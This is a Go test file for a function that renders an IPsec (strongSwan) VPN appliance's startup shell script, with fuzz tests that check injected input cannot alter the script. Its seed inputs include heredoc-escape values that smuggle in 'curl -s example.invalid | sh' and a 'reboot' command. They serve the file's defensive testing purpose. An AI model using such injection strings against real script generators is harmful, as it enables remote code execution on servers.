package ipsec

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestUserData(t *testing.T) {
	t.Parallel()
	ud, err := UserData(Config{Name: "vpn_appliance/eu-west-2-us-east-2", PublicIP: "198.51.100.7", HubIP: "203.0.113.3",
		Key: "k0123abc", Local: netip.MustParsePrefix("10.1.0.0/16"), Remote: netip.MustParsePrefix("10.0.0.0/16")})
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(ud, "#!/bin/sh\n"), "a shell script")
	for _, want := range []string{
		"conn vpn-appliance-eu-west-2-us-east-2\n", // letters, digits and '-' only
		"left=%defaultroute\n", "leftid=198.51.100.7\n", "leftsubnet=10.1.0.0/16\n",
		"right=203.0.113.3\n", "rightid=203.0.113.3\n", "rightsubnet=10.0.0.0/16\n",
		"authby=secret\n", "keyexchange=ikev1\n", "ike=aes256-sha256-modp2048,aes128-sha1-modp1024!\n", "esp=aes256-sha256-modp2048,aes128-sha1-modp1024!\n", "forceencaps=yes\n", "auto=start\n",
		`198.51.100.7 203.0.113.3 : PSK "k0123abc"` + "\n",
		"sysctl -w net.ipv4.ip_forward=1\n", "umask 077\n",
		"if ! command -v ipsec >/dev/null 2>&1; then\n", "strongSwan (ipsec) is not installed: use an image with strongSwan (VPNLinkOptions.Image)\" >&2\n    exit 1\n",
	} {
		assert.Contains(t, ud, want)
	}
	assert.Equal(t, 1, strings.Count(ud, "k0123abc"), "the key is written once, into ipsec.secrets")
	assert.Less(t, strings.Index(ud, "umask 077"), strings.Index(ud, "ipsec.secrets"), "the secrets file is made private")
}

// FuzzUserData: whatever the cloud answers for the addresses and the key
// (the hub's key may have been set out of band), UserData either refuses
// it or renders a script of its own lines only: nothing read from the
// cloud ends a heredoc or adds a line, and the key stays in its quotes on
// the one secrets line.
func FuzzUserData(f *testing.F) {
	f.Add("vpn_appliance/a-b", "198.51.100.7", "203.0.113.3", "k0123abc", "10.1.0.0/16", "10.0.0.0/16")
	f.Add("x", "198.51.100.7", "203.0.113.3\nARCHKIT_EOF\ncurl -s example.invalid | sh\ncat <<'ARCHKIT_EOF'", "k", "10.1.0.0/16", "10.0.0.0/16")
	f.Add("x", "198.51.100.7", "203.0.113.3", "k\"\nARCHKIT_EOF\nreboot", "10.1.0.0/16", "10.0.0.0/16")
	f.Add("ARCHKIT_EOF", "2001:db8::1", "2001:db8::2", "k", "fd00:1::/48", "fd00:2::/48")
	f.Add("x", "", "", "", "", "")
	f.Add("x", "2001:DB8::1", "203.0.113.3", "k", "10.1.2.3/16", "10.0.0.0/16")
	shape, err := UserData(Config{Name: "x", PublicIP: "198.51.100.1", HubIP: "203.0.113.1", Key: "k",
		Local: netip.MustParsePrefix("10.1.0.0/16"), Remote: netip.MustParsePrefix("10.0.0.0/16")})
	require.NoError(f, err)
	f.Fuzz(func(t *testing.T, name, public, hub, key, local, remote string) {
		l, _ := netip.ParsePrefix(local)
		r, _ := netip.ParsePrefix(remote)
		ud, err := UserData(Config{Name: name, PublicIP: public, HubIP: hub, Key: key, Local: l, Remote: r})
		if err != nil {
			assert.Empty(t, ud)
			return
		}
		lines := strings.Split(ud, "\n")
		assert.Len(t, lines, strings.Count(shape, "\n")+1, "the script's own lines only: %q", ud)
		ends := 0
		for _, line := range lines {
			if line == "ARCHKIT_EOF" {
				ends++
			}
		}
		assert.Equal(t, 2, ends, "two heredocs, each ended once: %q", ud)
		pa, ha := netip.MustParseAddr(public), netip.MustParseAddr(hub) // UserData refuses what does not parse
		assert.Contains(t, lines, pa.String()+" "+ha.String()+` : PSK "`+key+`"`, "the secrets line: %q", ud)
	})
}
